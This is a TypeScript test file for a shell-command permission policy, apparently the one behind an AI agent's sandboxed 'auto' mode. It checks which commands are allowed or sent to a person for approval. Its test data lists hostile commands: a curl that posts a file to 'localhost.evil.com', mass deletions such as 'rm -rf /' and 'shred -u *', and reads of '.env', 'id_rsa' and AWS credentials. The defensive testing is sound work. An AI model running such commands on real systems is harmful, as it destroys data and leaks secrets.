import { describe, expect, it } from "vitest";
import { decide, type PermissionPolicy } from "../decide.js";
import type { SessionRule } from "../session-rules.js";
import { bash, policyWith, rulesOf } from "../test-support/sample-policy.js";

const CONTAINED = { sandboxed: true, contained: true };
const auto = (command: string, changes: Partial<PermissionPolicy> = {}, session: readonly SessionRule[] = []) =>
  decide(bash(command, CONTAINED), policyWith({ mode: "auto", ...changes }), session);

describe("[P1 P8] law 12: contained commands", () => {
  it.each([
    ["make", "allow"],
    ['node -e \'require("child_process").exec("x")\'', "allow"],
    ["for f in *; do ./check $f; done", "allow"],
    ["[[ -f a ]]", "allow"],
    ["echo 'unfinished", "allow"],
    ["secret-tool lookup a b", "deny"],
  ])("%s: %s", (command, decision) => expect(auto(command).decision).toBe(decision));

  it("do not speak in other modes, without containment, when strict or when a rule asks", () => {
    const facts = bash("make", CONTAINED);
    expect(decide(facts, policyWith({ mode: "ask" })).decision).toBe("ask");
    expect(decide(bash("make", { sandboxed: true }), policyWith({ mode: "auto" })).decision).toBe("ask");
    expect(auto("make", { preset: "strict" }).decision).toBe("ask");
    expect(auto("make", { rules: rulesOf({ tool: "bash", command: "make *", decision: "ask" }) }).decision).toBe("ask");
    expect(auto("make").decidedBy).toBe("mode auto");
    expect(auto("make", { mode: "review" })).toMatchObject({ decision: "allow", decidedBy: "mode review" });
  });

  it("ask before they show files that hold secrets", () => {
    const facts = bash("grep -r KEY .", CONTAINED);
    const parts = facts.command?.parts.map((part) => ({
      ...part,
      verdict: "ask" as const,
      exposes: "It would show .env.",
    }));
    const shown = facts.command && { ...facts, command: { ...facts.command, parts: parts ?? [] } };
    expect(shown && decide(shown, policyWith({ mode: "auto" }))).toMatchObject({
      decision: "ask",
      reason: "It would show .env. The grep tool leaves such files out.",
    });
  });

  it("open no more than what a rule or a person allowed", () => {
    const rules = rulesOf({ tool: "bash", command: "git *", decision: "allow" });
    expect(auto("git push", { rules }).openings).toEqual(["git"]);
    expect(auto("git push").openings).toEqual(["network", "git"]);
    const tool: SessionRule = { number: 1, originator: "human", draft: { kind: "tool", tool: "bash" } };
    expect(auto("npm ci", {}, [tool]).decision).toBe("ask");
    expect(auto("git commit -m x", {}, [tool]).decision).toBe("ask");
    expect(auto("node a.js && npm ci").decision).toBe("ask");
  });
});

describe("[P8] what asks although a sandbox holds it", () => {
  it.each([
    ..."npm ci|npm view left-pad version|npm outdated|npm --prefix web install|sudo -E npm i x|env A=1 npm install|bash -c 'npm ci'|timeout 9 pip3 install x".split(
      "|",
    ),
    ..."pnpm view x|pnpm outdated|pnpm --dir web info x|pnpm audit|yarn info x|yarn outdated|yarn set version 4|bun outdated|bun info x|bun pm view x".split(
      "|",
    ),
    ..."cargo info serde|gem outdated|bundle outdated|composer outdated|deno outdated|conda search x".split("|"),
    ..."python3 -m pip install x|uv pip install x|cargo add serde|go get x|go install x@latest|gem install x".split(
      "|",
    ),
    ..."curl https://example.com|wget -q example.com/x|curl -d @a http://localhost.evil.com|ssh host|rsync a host:b".split(
      "|",
    ),
    ..."git push|git fetch origin|git clone https://x/y|gh pr create|yarn|brew install x|docker run x".split("|"),
  ])("the network or the machine: %s", (command) => {
    const { decision, reason } = auto(command);
    expect([decision, reason]).toEqual(["ask", expect.stringMatching(/network|changes this machine/)]);
  });

  it.each([
    ..."git commit -am x|git -C sub add .|git checkout main|git stash|git reset --hard|git tag v1|git config a.b c".split(
      "|",
    ),
    ..."git rebase -i HEAD~2|git branch new|git worktree add ../x|git init lib|git apply --index a.patch".split("|"),
  ])("the repository: %s", (command) => {
    expect(auto(command)).toMatchObject({ decision: "ask", openings: ["git"] });
  });

  it.each([
    ...'rm -rf .|rm -rf ./|rm -rf *|rm -rf ./*|rm -rf ..|rm -rf /|rm -rf ~|rm -rf "$DIR"|rm -rf $PWD|rm -rf /home/ada/project'.split(
      "|",
    ),
    ..."rm *|rm -r -- *|/bin/rm -rf .|git clean -fdx|find . -delete|find -type f -delete|find . -name '*' -delete".split(
      "|",
    ),
    ..."find . ! -name keep -exec rm -rf {} +|shred -u *|mv * /tmp|chmod -R 000 .|rsync -a --delete empty/ ./".split(
      "|",
    ),
    "git ls-files | xargs rm",
    "sh -c 'rm -rf *'",
  ])("deletions: %s", (command) => {
    const { decision, reason } = auto(command);
    expect([decision, reason]).toEqual(["ask", expect.stringMatching(/delete|whole/)]);
  });

  it.each([
    ..."echo x > ~/notes|touch ~/x|cp a /usr/local/bin/a|tee /etc/hosts|mkdir ../other|dd if=a of=/var/x|mv a ../b".split(
      "|",
    ),
    ..."sed -i s/a/b/ /etc/x|ln -s a $HOME/b|echo x >> ../outside".split("|"),
  ])("places outside: %s", (command) => {
    const { decision, reason } = auto(command);
    expect([decision, reason]).toEqual(["ask", expect.stringContaining("outside")]);
  });

  it.each(["cat .env", "grep -r x .env", "base64 id_rsa", "source .env", "head -1 ~/.aws/credentials"])(
    "secrets: %s",
    (command) => expect(auto(command).decision).toBe("ask"),
  );

  it.each([
    ..."curl http://localhost:3000/x|curl -s 127.0.0.1:80|npm init -y|git apply a.patch|git clean -n|rm -rf build/*".split(
      "|",
    ),
    ..."find . -name '*.o' -delete|rm -rf *.egg-info dist|cp /etc/hosts .|echo x > /tmp/y|valueOf|__proto__ install".split(
      "|",
    ),
  ])("but not: %s", (command) => expect(auto(command).decision).toBe("allow"));
});
